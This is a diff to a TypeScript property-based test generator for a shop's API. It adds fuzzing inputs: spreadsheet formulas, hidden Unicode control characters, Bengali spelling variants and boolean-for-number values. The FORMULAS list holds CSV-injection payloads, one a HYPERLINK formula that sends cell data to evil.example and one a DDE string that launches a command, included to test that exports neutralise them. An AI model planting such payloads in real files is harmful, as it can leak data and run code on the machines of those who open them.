@@ -233,7 +233,11 @@ export type MutationKind =
   | 'control-char'
   | 'unknown-id'
   | 'null'
-  | 'extra-field';
+  | 'extra-field'
+  | 'formula'
+  | 'hidden-char'
+  | 'bengali-forms'
+  | 'boolean-number';
 
 /** The integers where counters, sequences and 32-bit columns end: 2³¹−1, 2³¹, −1 and 0. */
 export const BOUNDARY_INTEGERS = [2_147_483_647, 2_147_483_648, -1, 0] as const;
@@ -247,6 +251,49 @@ export const CONTROL_CHARACTERS = [
   '\u0085',
   '\u009b',
 ] as const;
+
+/**
+ * Text a spreadsheet would evaluate: accepted as text (a shopper may be called anything), and
+ * made harmless where it leaves the shop (the CSV exports).
+ */
+export const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"c")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1,2)',
+  '-1+1',
+  '=1+1',
+] as const;
+
+/**
+ * Characters that hide or reorder text: the bidirectional controls (U+202A–202E, U+2066–2069),
+ * zero-width ones (U+200B, U+2060, U+FEFF) and, in JSON bodies, a lone surrogate.
+ */
+export const HIDDEN_CHARACTERS = [
+  '\u202a',
+  '\u202b',
+  '\u202c',
+  '\u202d',
+  '\u202e',
+  '\u2066',
+  '\u2067',
+  '\u2068',
+  '\u2069',
+  '\u200b',
+  '\u2060',
+  '\ufeff',
+] as const;
+const LONE_SURROGATES = ['\ud800', '\udfff'] as const;
+
+/** য় and ড় as one code point and as letter + nukta: one word in two Unicode spellings. */
+export const BENGALI_FORMS = [
+  'না\u09dfক',
+  'না\u09af\u09bcক',
+  'বা\u09dcি',
+  'বা\u09a1\u09bcি',
+] as const;
+
+/** A field whose text is taken exactly as typed (a password: never shown, never normalised). */
+const isSecret = (slot: Slot) => /password/i.test(lastName(slot));
 
 /** What a broken value must be refused for (when `mustRefuse`), and the word naming it. */
 export interface Breakage {
@@ -305,6 +352,29 @@ export function breakageOptions(slot: Slot): fc.Arbitrary<Breakage>[] {
   // A string anywhere, and any value that travels as text (path, query, form).
   if (type === 'string' || (isText && (type === 'integer' || type === 'number'))) {
     add('control-char', withControlCharacter, true);
+  }
+  if (type === 'integer' || type === 'number') {
+    // JSON's true and false are no numbers (they were read as 1 and 0); in a query they are text.
+    if (!isText) add('boolean-number', fc.boolean(), true);
+  }
+  if (type === 'string') {
+    // Refused wherever text enters, passwords aside; a lone surrogate only in JSON, since a URL
+    // cannot carry one.
+    const hidden = isText ? HIDDEN_CHARACTERS : [...HIDDEN_CHARACTERS, ...LONE_SURROGATES];
+    add(
+      'hidden-char',
+      fc
+        .tuple(
+          fc.stringMatching(/^[a-z]{1,4}$/),
+          fc.constantFrom(...hidden),
+          fc.stringMatching(/^[a-z]{1,4}$/),
+        )
+        .map(([before, hiddenChar, after]) => `${before}${hiddenChar}${after}`),
+      !isSecret(slot),
+    );
+    // Ordinary text to the shop: kept (names may be anything), or refused by a field's own rule.
+    add('formula', fc.constantFrom(...FORMULAS), false);
+    add('bengali-forms', fc.constantFrom(...BENGALI_FORMS), false);
   }
   if (type === 'string') {
     if (!isText) add('wrong-type', fc.constantFrom(12345, { a: 'b' }, ['x'], true), true);
